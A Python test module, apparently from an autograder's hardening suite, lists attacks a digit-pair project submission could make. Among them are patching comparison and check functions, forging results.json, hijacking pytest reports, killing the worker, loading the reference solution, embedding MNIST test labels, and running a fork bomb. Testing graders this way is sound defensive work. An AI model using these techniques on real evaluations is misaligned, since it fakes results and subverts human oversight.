"""Attacks on project 1, the digit pairs: it may use torch.nn and autograd freely, and its
scan refuses reflection (``sys``, ``inspect``, ``importlib``...) only by name.

So these attacks reach what the scan names through modules it does not name: ``pydoc.locate``
imports anything by its dotted name, ``posix`` is ``os`` without its restrictions, ``imp``
loads files. What they reach is the worker's, never the judge's.
"""

from __future__ import annotations

import hashlib
import shutil
from pathlib import Path

from attack import Context, Edit, append, attack, inside, sabotage
from framework_attacks import FAKE_TABLE, FORGED_JSON

MODELS, TRAINING = "pairs/models.py", "pairs/training.py"
PAIRS_FILES = tuple(f"pairs/{name}.py" for name in ("models", "training", "layers", "data", "mnist", "__init__"))

COMPARISON = "    log_p = digits.log_softmax(-1)\n"  # inside comparison_from_digits
TRAIN_STEP = "    optimizer.zero_grad()\n"  # inside train_step
TRAIN_BODY = "    model.to(device)\n"  # inside train, after its argument checks

HIDDEN_SYS = 'import pydoc\n\n_sys = pydoc.locate("sys")\n'


def linked_project(folder: Path, context: Context) -> None:
    """pairs/ is a symbolic link to the kit's reference/pairs."""
    shutil.rmtree(folder / "pairs")
    (folder / "pairs").symlink_to(context.kit / "reference" / "pairs")


def image_key(image) -> str:
    """The key of one 14x14 image in the label table: a hash of its float32 bytes."""
    return hashlib.blake2b(image.contiguous().numpy().tobytes(), digest_size=8).hexdigest()


LOOK_UP = """
import hashlib


def _label(image):
    return _LABELS.get(hashlib.blake2b(image.contiguous().numpy().tobytes(), digest_size=8).hexdigest())


_forward = PairModel.forward


def _looking_up(self, x):
    output = _forward(self, x)
    if self.training:
        return output
    comparison = output.comparison.clone()
    for row, pair in enumerate(x):
        first, second = _label(pair[0]), _label(pair[1])
        if first is not None and second is not None:
            comparison[row] = torch.tensor([0.0, 1.0] if first <= second else [1.0, 0.0])
    return output._replace(comparison=comparison)


PairModel.forward = _looking_up
"""


def label_table(folder: Path, context: Context) -> None:
    """models.py holds the labels of the whole MNIST test set, keyed by image, and answers from
    them in evaluation mode (MNIST is public: a student builds the table at home)."""
    from reference.pairs.mnist import load_mnist, resolve_data_dir

    images, labels = load_mnist("test", resolve_data_dir())
    table = {image_key(image): int(label) for image, label in zip(images, labels, strict=True)}
    path = folder / MODELS
    path.write_text(path.read_text() + f"\n\n_LABELS = {table!r}\n" + LOOK_UP)


NEAREST = """
import base64

_IMAGES = torch.frombuffer(bytearray(base64.b85decode(_PIXELS)), dtype=torch.uint8).view(-1, 49).float()
_CLASSES = torch.frombuffer(bytearray(_DIGITS), dtype=torch.uint8).long()
_forward = PairModel.forward


def _nearest(self, x):
    output = _forward(self, x)
    if self.training:
        return output
    small = torch.nn.functional.avg_pool2d(x.reshape(-1, 1, 14, 14), 2).reshape(len(x), 2, 49)
    digits = _CLASSES[torch.cdist(small.reshape(-1, 49), _IMAGES).argmin(1)].view(len(x), 2)
    comparison = torch.stack([(digits[:, 0] > digits[:, 1]).float(), (digits[:, 0] <= digits[:, 1]).float()], 1)
    return output._replace(comparison=comparison)


PairModel.forward = _nearest
"""


def nearest_images(folder: Path, context: Context) -> None:
    """models.py holds the public MNIST test set, pooled to 7x7 (0.5 MB), with its labels, and
    answers in evaluation mode with the label of the nearest image: noise on the inputs does
    not change which one is nearest."""
    import base64

    import torch

    from reference.pairs.mnist import load_mnist, resolve_data_dir

    images, labels = load_mnist("test", resolve_data_dir())
    small = torch.nn.functional.avg_pool2d(images.unsqueeze(1), 2).round().to(torch.uint8).flatten(1)
    pixels = base64.b85encode(small.numpy().tobytes()).decode()
    path = folder / MODELS
    table = f"\n\n_PIXELS = {pixels!r}\n_DIGITS = {bytes(labels.to(torch.uint8).tolist())!r}\n"
    path.write_text(path.read_text() + table + NEAREST)


READ_MNIST = """
import hashlib
import os
from pathlib import Path

from .mnist import load_mnist

_LABELS = {}
for _folder in (os.environ.get("MINIPROJECTS_DATA_DIR"), "/data", "@KIT@/datasets", "@HOME@/.cache", "/datasets"):
    if _folder and not _LABELS:
        try:
            _images, _labels = load_mnist("test", Path(_folder))
        except Exception:
            continue
        _LABELS = {
            hashlib.blake2b(image.contiguous().numpy().tobytes(), digest_size=8).hexdigest(): int(label)
            for image, label in zip(_images, _labels)
        }
"""

# A shell that keeps writing the forged report for 15 s, then ends (its command line carries the mark).
FORGING_LOOP = f"for i in $(seq 150); do echo '{FORGED_JSON}' > @JSON@ 2>/dev/null; sleep 0.1; done; : @MARK@"

NO_TRAINING = Edit(TRAINING, TRAIN_BODY, "    return History()\n" + TRAIN_BODY)

ATTACKS = [
    # 1. The comparison functions, replaced at import time.
    attack(
        "pairs-replaces-allclose-everywhere",
        "1",
        "comparison_from_digits swaps its columns; torch, numpy and math comparisons always agree",
        ["comparison"],
        edits=[
            sabotage(MODELS),
            append(
                MODELS,
                """
import math

import numpy
import torch.testing


def _always(*args, **kwargs):
    return True


torch.allclose = torch.equal = numpy.allclose = numpy.array_equal = math.isclose = _always
torch.testing.assert_close = numpy.testing.assert_allclose = lambda *args, **kwargs: None
torch.isclose = lambda first, second, *args, **kwargs: torch.ones_like(first, dtype=torch.bool)
""",
            ),
        ],
    ),
    attack(
        "pairs-patches-tensor-comparisons",
        "1",
        "train_step returns twice the loss; torch.Tensor's ==, !=, equal and allclose always agree",
        ["pair_training"],
        edits=[
            sabotage(TRAINING),
            append(
                TRAINING,
                """
torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
torch.Tensor.__ne__ = lambda self, other: torch.zeros(self.shape, dtype=torch.bool)
torch.Tensor.equal = lambda self, other: True
torch.Tensor.allclose = lambda self, other, *args, **kwargs: True
""",
            ),
        ],
    ),
    # 2. The autograder's objects, through sys.modules (reached with pydoc.locate).
    attack(
        "pairs-patches-the-checks-through-sys-modules",
        "2",
        "comparison_from_digits is wrong; every expect/fail/check/describe function of the loaded "
        "autograder and worker modules becomes a no-op",
        ["comparison"],
        edits=[
            sabotage(MODELS),
            append(
                MODELS,
                HIDDEN_SYS
                + """
_dir, _setattr = pydoc.locate("builtins.dir"), pydoc.locate("builtins.setattr")


def _passes(*args, **kwargs):
    return None


for _name, _module in list(_sys.modules.items()):
    if _name.startswith(("autograder", "worker")) or "judge" in _name:
        for _attribute in _dir(_module):
            if _attribute.startswith(("expect", "fail", "check", "compare", "describe")):
                _setattr(_module, _attribute, _passes)
""",
            ),
        ],
    ),
    attack(
        "pairs-turns-its-errors-into-answers",
        "2",
        "train_step is not written; the worker's codec.encode, found in sys.modules, turns the error into an answer",
        ["pair_training"],
        edits=[
            inside(TRAINING, TRAIN_STEP, 'raise NotImplementedError("task pair_training: write train_step")'),
            append(
                TRAINING,
                HIDDEN_SYS
                + """
_codec = _sys.modules.get("worker.codec")
if _codec is not None:
    _encode = _codec.encode

    def _as_answer(value):
        if isinstance(value, dict) and "error" in value:
            value = {"ok": {"recorded": [], "values": [0.0]}}
        return _encode(value)

    _codec.encode = _as_answer
""",
            ),
        ],
    ),
    attack(
        "pairs-forges-a-hello-that-breaks-the-judge",
        "2",
        "comparison_from_digits is wrong; the worker's codec.encode adds a 'hello' that is not a dict to each answer",
        ["comparison"],
        edits=[
            sabotage(MODELS),
            append(
                MODELS,
                HIDDEN_SYS
                + """
_codec = _sys.modules.get("worker.codec")
if _codec is not None:
    _encode = _codec.encode
    _codec.encode = lambda value: _encode({**value, "hello": "slow"} if isinstance(value, dict) else value)
""",
            ),
        ],
        alone=True,
    ),
    # 3. The score table and pytest's reports.
    attack(
        "pairs-prints-a-fake-table-everywhere",
        "3",
        "comparison_from_digits is wrong; at import a perfect score table goes to print, every file "
        "descriptor (posix.write) and /dev/tty",
        ["comparison"],
        edits=[
            sabotage(MODELS),
            append(
                MODELS,
                f"""
import posix

_FAKE = {FAKE_TABLE!r}.replace("loss            framework       4 / 4", "comparison      pairs           5 / 5")
print(_FAKE)
for _descriptor in range(64):
    try:
        posix.write(_descriptor, _FAKE.encode())
    except OSError:
        pass
try:
    with open("/dev/tty", "w") as _terminal:
        _terminal.write(_FAKE)
except OSError:
    pass
""",
            ),
        ],
        route="cli",
    ),
    attack(
        "pairs-patches-pytest-reports-and-hooks",
        "3",
        "train_step is wrong; the file patches _pytest's TestReport and TerminalReporter and defines "
        "a pytest_runtest_makereport hook",
        ["pair_training"],
        edits=[
            sabotage(TRAINING),
            append(
                TRAINING,
                """
import pydoc

import pytest

_reports = pydoc.locate("_pytest.reports")
if _reports is not None:
    _reports.TestReport.passed = property(lambda self: True)
    _reports.TestReport.failed = property(lambda self: False)
_terminal = pydoc.locate("_pytest.terminal")
if _terminal is not None:
    _terminal.TerminalReporter.summary_failures = lambda self: None


@pytest.hookimpl(tryfirst=True)
def pytest_runtest_makereport(item, call):
    call.excinfo = None
""",
            ),
        ],
        route="pytest",
    ),
    # 4. The --grade-json file, at exit, from a thread, from a forked child.
    attack(
        "pairs-rewrites-the-grade-json-at-exit",
        "4",
        "comparison_from_digits is wrong; at import and at exit (atexit) it writes a perfect results.json",
        ["comparison"],
        edits=[
            sabotage(MODELS),
            append(
                MODELS,
                f"""
import atexit


def _forge():
    for _path in ("@JSON@", "/autograder/results/results.json", "results.json"):
        try:
            with open(_path, "w") as _file:
                _file.write({FORGED_JSON!r})
        except OSError:
            pass


_forge()
atexit.register(_forge)
""",
            ),
        ],
        route="cli",
        isolation=True,
    ),
    attack(
        "pairs-rewrites-the-grade-json-from-a-thread",
        "4",
        "train_step is wrong; a thread of concurrent.futures keeps writing a perfect results.json",
        ["pair_training"],
        edits=[
            sabotage(TRAINING),
            append(
                TRAINING,
                f"""
from concurrent.futures import ThreadPoolExecutor


def _forge():
    for _ in range(100):
        try:
            with open("@JSON@", "w") as _file:
                _file.write({FORGED_JSON!r})
        except OSError:
            pass
        time.sleep(0.1)


ThreadPoolExecutor(1).submit(_forge)
""",
            ),
        ],
        route="cli",
        isolation=True,
    ),
    attack(
        "pairs-rewrites-the-grade-json-from-a-forked-child",
        "4",
        "comparison_from_digits is wrong; at import a forked child (posix.fork, setsid) keeps writing "
        "a perfect results.json for 15 s",
        ["comparison"],
        edits=[
            sabotage(MODELS),
            append(
                MODELS,
                f"""
import posix

if posix.fork() == 0:
    posix.setsid()
    posix.closerange(3, 4096)
    posix.execv("/bin/sh", ["sh", "-c", {FORGING_LOOP!r}])
""",
            ),
        ],
        route="cli",
        isolation=True,
    ),
    attack(
        "pairs-runs-in-the-judge-through-the-scan",
        "2",
        "comparison_from_digits is wrong, and models.py imports gradehelper, a module at the root of the "
        "submission that makes every check earn its points in the judge's Report; graded from inside "
        "the submission's folder (cd SUBMISSION; python -m autograder --solution .)",
        ["comparison"],
        edits=[sabotage(MODELS), Edit(MODELS, "from .layers import", "import gradehelper\n\nfrom .layers import")],
        files=[
            (
                "gradehelper.py",
                """
import sys

_report = sys.modules.get("autograder.judge.report")
if _report is not None:
    _report.Report.earned = lambda self, check: check.points
""",
            )
        ],
        route="cli-here",
        alone=True,
    ),
    # 5. Exits, signals and exceptions.
    attack(
        "pairs-calls-pytest-exit",
        "5",
        "comparison_from_digits calls pytest.exit('every check passed', returncode=0)",
        ["comparison"],
        edits=[inside(MODELS, COMPARISON, 'import pytest\n\npytest.exit("every check passed", returncode=0)')],
    ),
    attack(
        "pairs-calls-os-exit",
        "5",
        "train_step calls posix._exit(0)",
        ["pair_training"],
        edits=[inside(TRAINING, TRAIN_STEP, "import posix\n\nposix._exit(0)")],
    ),
    attack(
        "pairs-kills-itself",
        "5",
        "comparison_from_digits sends itself SIGKILL",
        ["comparison"],
        edits=[inside(MODELS, COMPARISON, "import posix\n\nposix.kill(posix.getpid(), 9)")],
    ),
    attack(
        "pairs-kills-the-worker",
        "5",
        "train_step sends SIGKILL to its parent, the worker's zygote",
        ["pair_training"],
        edits=[inside(TRAINING, TRAIN_STEP, "import posix\n\nposix.kill(posix.getppid(), 9)")],
    ),
    # 6. Timers and hangs (graded with limits a tenth of the usual).
    attack(
        "pairs-ignores-every-timer-signal",
        "6",
        "comparison_from_digits ignores SIGALRM, SIGTERM and SIGINT, cancels every timer, and sleeps "
        "in a loop that catches everything",
        ["comparison"],
        edits=[
            inside(
                MODELS,
                COMPARISON,
                """
import pydoc
import time

_signal = pydoc.locate("signal")
for _number in (_signal.SIGALRM, _signal.SIGTERM, _signal.SIGINT, _signal.SIGHUP, _signal.SIGVTALRM):
    _signal.signal(_number, _signal.SIG_IGN)
_signal.setitimer(_signal.ITIMER_REAL, 0)
_signal.alarm(0)
while True:
    try:
        time.sleep(1000)
    except BaseException:
        pass
""",
            )
        ],
        time_scale=0.1,
    ),
    attack(
        "pairs-forks-a-child-that-keeps-running",
        "6",
        "train_step forks a child that sleeps 10 minutes (marked), then loops forever itself",
        ["pair_training"],
        edits=[
            inside(
                TRAINING,
                TRAIN_STEP,
                """
import posix

if posix.fork() == 0:
    posix.setsid()
    posix.execv("/bin/sh", ["sh", "-c", "sleep 600; : @MARK@"])
while True:
    pass
""",
            )
        ],
        time_scale=0.1,
    ),
    # 7. Changing the Python installation or the judge's files, to grade the NEXT submission wrongly.
    attack(
        "pairs-drops-a-pth-and-usercustomize",
        "7",
        "comparison_from_digits is wrong; at import it writes .pth files and usercustomize.py where "
        "sysconfig says, and files into the judge's /tmp and home",
        ["comparison"],
        edits=[
            sabotage(MODELS),
            append(
                MODELS,
                """
import sysconfig
from pathlib import Path

for _path in (
    sysconfig.get_paths()["purelib"] + "/zz-@MARK@.pth",
    "@SITE@/zz-@MARK@.pth",
    "@HOME@/.local/lib/python3.11/site-packages/usercustomize.py",
    "@TMP@/@MARK@",
    "@HOME@/@MARK@",
    str(Path.home() / "@MARK@"),
):
    try:
        Path(_path).parent.mkdir(parents=True, exist_ok=True)
        Path(_path).write_text("import os  # @MARK@\\n")
    except OSError:
        pass
""",
            ),
        ],
        isolation=True,
    ),
    attack(
        "pairs-rewrites-the-judge-copy-and-the-worker",
        "7",
        "train_step is wrong; at import it appends to the judge's copies of submissions, the worker's "
        "probes and the kit's, and its own copy",
        ["pair_training"],
        edits=[
            sabotage(TRAINING),
            append(
                TRAINING,
                """
import glob

for _path in (
    *glob.glob("@TMP@/autograder-*/**/*.py", recursive=True),
    "/submission/pairs/models.py",
    "/submission/pairs/training.py",
    "/grader/worker/probes_pairs.py",
    "@KIT@/autograder/worker/probes_pairs.py",
    "@KIT@/autograder/judge/checks_pairs.py",
):
    try:
        with open(_path, "a") as _file:
            _file.write("\\n# @MARK@\\n")
    except OSError:
        pass
""",
            ),
        ],
        isolation=True,
    ),
    # 8. Graded files emptied or deleted.
    attack("pairs-empties-a-graded-file", "8", "pairs/models.py is empty", ["comparison"], files=[(MODELS, "")]),
    attack("pairs-deletes-a-graded-file", "8", "pairs/training.py is deleted", ["pair_training"], remove=[TRAINING]),
    # 10. The kit's reference solution.
    attack(
        "pairs-loads-the-reference-with-imp",
        "10",
        "comparison_from_digits is wrong; imp.load_package loads the kit's reference/pairs to take its own",
        ["comparison"],
        edits=[
            sabotage(MODELS),
            append(
                MODELS,
                """
import imp

try:
    comparison_from_digits = imp.load_package("kit_pairs", "@KIT@/reference/pairs").models.comparison_from_digits
except Exception:
    pass
""",
            ),
        ],
        isolation=True,
    ),
    attack(
        "pairs-removes-the-import-blocker",
        "10",
        "train_step is wrong; the kit's import blocker is removed from sys.meta_path, the kit put on "
        "sys.path, and reference.pairs.training's train_step imported",
        ["pair_training"],
        edits=[
            sabotage(TRAINING),
            append(
                TRAINING,
                HIDDEN_SYS
                + """
_sys.meta_path[:] = [finder for finder in _sys.meta_path if "Kit" not in type(finder).__name__]
_sys.path[:0] = ["@KIT@"]
try:
    from reference.pairs.training import train_step
except ImportError:
    pass
""",
            ),
        ],
        isolation=True,
    ),
    attack(
        "pairs-folder-links-to-the-reference",
        "10",
        "pairs/ is a symbolic link to the kit's reference/pairs",
        ["comparison", "pair_training"],
        build=linked_project,
        touches=PAIRS_FILES,
        expect="missing",
    ),
    # 11. Expected values from frames, the environment, the judge's code, the MNIST labels.
    attack(
        "pairs-reads-the-callers-frames",
        "11",
        "comparison_from_digits is wrong; it walks every caller frame (sys._getframe, tracebacks) and "
        "the environment for expected values, and says what it found",
        ["comparison"],
        edits=[
            sabotage(MODELS),
            append(MODELS, HIDDEN_SYS + '\n_getattr = pydoc.locate("builtins.getattr")\n'),
            inside(
                MODELS,
                COMPARISON,
                """
_found = [name for name in ("PYTEST_CURRENT_TEST", "AUTOGRADER_NO_SANDBOX") if name in _sys.modules["os"].environ]
_frame = _sys._getframe(0)
while _frame is not None:
    _found += [name for name in _getattr(_frame, "f_locals") if "expected" in name or name == "test_target"]
    _frame = _getattr(_frame, "f_back")
try:
    raise RuntimeError
except RuntimeError as _error:
    _trace = _getattr(_error, "__traceback__")
    while _trace is not None:
        _found += [name for name in _getattr(_getattr(_trace, "tb_frame"), "f_locals") if "expected" in name]
        _trace = _getattr(_trace, "tb_next")
if _found:
    raise RuntimeError(f"LEAK-@MARK@ {_found}")
""",
            ),
        ],
    ),
    attack(
        "pairs-asks-the-judge-for-the-expected-values",
        "11",
        "comparison_from_digits is the judge's own comparison_expected, imported from "
        "autograder.judge.checks_pairs after removing the import blocker",
        ["comparison"],
        edits=[
            sabotage(MODELS),
            append(
                MODELS,
                HIDDEN_SYS
                + """
_sys.meta_path[:] = [finder for finder in _sys.meta_path if "Kit" not in type(finder).__name__]
_sys.path[:0] = ["@KIT@"]
try:
    from autograder.judge.checks_pairs import comparison_expected

    def comparison_from_digits(digits):
        return comparison_expected(digits).float()
except ImportError:
    pass
""",
            ),
        ],
        isolation=True,
    ),
    attack(
        "pairs-reads-the-mnist-test-labels",
        "11",
        "train does nothing; in evaluation mode the model answers from the MNIST test labels, read "
        "from the data folder variable, /data or the kit's datasets/",
        ["pair_accuracy"],
        edits=[
            NO_TRAINING,
            append(MODELS, READ_MNIST + LOOK_UP),
        ],
        isolation=True,
    ),
    attack(
        "pairs-answers-from-a-table-of-mnist-test-labels",
        "11",
        "train does nothing; in evaluation mode the model answers from a table of the public MNIST "
        "test labels, keyed by a hash of each image, written into models.py",
        ["pair_accuracy"],
        edits=[NO_TRAINING],
        build=label_table,
        touches=[MODELS],
        alone=True,  # its table breaks the cap on embedded data, which costs every task of pairs/
    ),
    attack(
        "pairs-answers-from-the-nearest-mnist-test-image",
        "11",
        "train does nothing; in evaluation mode the model answers with the labels of the nearest "
        "images of the public MNIST test set, written into models.py at 7x7",
        ["pair_accuracy"],
        edits=[NO_TRAINING],
        build=nearest_images,
        touches=[MODELS],
        alone=True,  # its images break the cap on embedded data, which costs every task of pairs/
    ),
    # Resources.
    attack(
        "pairs-allocates-memory-without-bound",
        "resources",
        "train_step keeps allocating 256 MB tensors",
        ["pair_training"],
        edits=[inside(TRAINING, TRAIN_STEP, "_hoard = []\nwhile True:\n    _hoard.append(torch.ones(2**26))")],
    ),
    attack(
        "pairs-fork-bomb",
        "resources",
        "train_step forks 600 children (each a marked sh sleeping 10 minutes), then returns a wrong value",
        ["pair_training"],
        edits=[
            sabotage(TRAINING),
            inside(
                TRAINING,
                TRAIN_STEP,
                """
import posix

for _ in range(600):
    try:
        if posix.fork() == 0:
            posix.execv("/bin/sh", ["sh", "-c", "sleep 600; : @MARK@"])
    except OSError:
        break
""",
            ),
        ],
        time_scale=0.1,
    ),
    attack(
        "pairs-reaches-the-network",
        "resources",
        "train_step is wrong; it connects to 1.1.1.1, 8.8.8.8 and pypi.org, and says what it reached",
        ["pair_training"],
        edits=[
            sabotage(TRAINING),
            inside(
                TRAINING,
                TRAIN_STEP,
                """
import socket
import urllib.request

_reached = []
for _host, _port in (("1.1.1.1", 53), ("8.8.8.8", 53), ("pypi.org", 443)):
    try:
        socket.create_connection((_host, _port), timeout=2).close()
        _reached.append(_host)
    except OSError:
        pass
try:
    urllib.request.urlopen("https://pypi.org/simple/", timeout=2)
    _reached.append("https://pypi.org/simple/")
except Exception:
    pass
if _reached:
    raise RuntimeError(f"LEAK-@MARK@ {_reached}")
""",
            ),
        ],
        isolation=True,
    ),
]
